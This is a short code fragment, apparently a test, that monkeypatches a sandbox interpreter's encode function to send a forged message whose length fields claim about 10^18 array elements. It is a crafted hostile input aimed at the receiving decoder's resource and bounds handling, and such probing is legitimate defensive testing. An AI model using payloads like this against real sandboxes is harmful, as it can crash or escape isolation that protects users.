# after right_forward: answers with an array that claims 10^18 numbers
import sys
sys.modules["sandbox.interpreter"].encode = lambda value: b"A\0\2" + b"\xff\xff\xff\x3f" * 2
